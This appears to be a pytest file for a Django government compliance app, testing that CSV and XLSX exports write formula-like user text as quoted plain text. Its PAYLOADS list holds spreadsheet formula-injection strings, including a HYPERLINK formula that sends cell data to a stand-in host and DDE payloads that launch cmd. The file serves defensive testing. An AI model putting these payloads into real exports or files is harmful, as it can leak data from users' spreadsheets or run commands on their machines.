"""Formula injection: every export writes user text that starts with = + - @ or a control
character as text, never as a formula (core/exports.py, used by every export)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook

from govapp.compliance import services as csvc
from govapp.compliance.models import Finding
from govapp.core.exports import SafeCsvWriter, csv_cell, formula_like, xlsx_append, xlsx_cell
from govapp.orgs.services import token_issue
from govapp.registry.legacy.parser import legacy_template_csv
from tests.compliance import factories as cf

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _xlsx_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))  # not read-only: cell types and styles are kept
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_text_only(data: bytes, payloads: list[str]) -> None:
    cells = _xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    found = {c.value for c in cells if isinstance(c.value, str)}
    for p in payloads:
        hits = [c for c in cells if c.value == p]
        assert hits, (p, found)
        assert all(c.data_type == "s" and c.quotePrefix for c in hits)


def test_formula_like_and_csv_cell():
    for p in PAYLOADS:
        assert formula_like(p)
        assert csv_cell(p) == "'" + p
    for ok in ("穗好办", "1+1", "a=b", "", "2026-01-01", 5, None, -3):
        assert not formula_like(ok)
        assert csv_cell(ok) == ok


def test_xlsx_helpers_write_text_and_drop_illegal_characters():
    wb = Workbook()
    ws = wb.active
    xlsx_append(ws, ["标题", "数量"])
    xlsx_append(ws, [PAYLOADS[0], 3])
    xlsx_cell(ws, 5, 1, "bad\x01char")
    out = io.BytesIO()
    wb.save(out)
    cells = _xlsx_cells(out.getvalue())
    values = {c.coordinate: c.value for c in cells}
    assert values["A1"] == "标题" and values["A2"] == PAYLOADS[0] and values["B2"] == 3
    assert values["A5"] == "badchar"
    _assert_text_only(out.getvalue(), [PAYLOADS[0]])


def test_csv_writer_quotes_formulas():
    out = io.StringIO()
    SafeCsvWriter(out).writerow(["穗好办", *PAYLOADS, 7])
    row = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row[0] == "穗好办" and row[-1] == "7"
    assert all(v.startswith("'") for v in row[1:-1])


def test_legacy_template_csv_is_written_safely():
    rows = list(csv.reader(io.StringIO(legacy_template_csv().decode("utf-8-sig"), newline="")))
    assert rows[0][0] and not any(formula_like(v) for row in rows for v in row)


@pytest.mark.django_db
def test_complaint_statistics_export_with_formula_names(settings):
    from tests.complaints.factories import filed_app, report, world

    settings.GOVAPP_COMPLAINT_POW_BITS = 4
    w = world()
    w.unit.name = PAYLOADS[1]
    w.unit.save()
    report(filed_app(w.unit, PAYLOADS[0]))
    report(filed_app(w.unit, PAYLOADS[3]), category="ranking_abuse")
    _t, raw = token_issue(actor=w.gd, user=w.gd, name="export")
    resp = Client().get("/api/v1/complaints/stats.xlsx", HTTP_AUTHORIZATION=f"Bearer {raw}")
    assert resp.status_code == 200
    _assert_text_only(resp.content, [PAYLOADS[0], PAYLOADS[1], PAYLOADS[3]])


@pytest.mark.django_db
def test_penalty_notices_with_formula_text():
    w = cf.world()
    app = cf.app(w)
    app.name = PAYLOADS[2]
    app.save()
    cf.package_scan(app, **cf.CLOCK_IN, **cf.ADS)
    csvc.compliance_evaluate(app=app, actor=w.member)
    ads = Finding.objects.get(app=app, rule_id="R23_ADVERTISING_SDK")
    order = csvc.order_issue(actor=w.province, app=app, findings=[ads], instructions=PAYLOADS[0])
    csvc.order_respond(actor=w.member, order=order, response="改了")
    case = csvc.order_fail(actor=w.province, order=order, reason=PAYLOADS[3])
    c = Client()
    c.force_login(w.province)
    for kind in ("approval", "funding"):
        resp = c.get(f"/compliance/penalties/{case.pk}/notice/{kind}.xlsx")
        assert resp.status_code == 200
        _assert_text_only(resp.content, [PAYLOADS[0], PAYLOADS[2], PAYLOADS[3]])
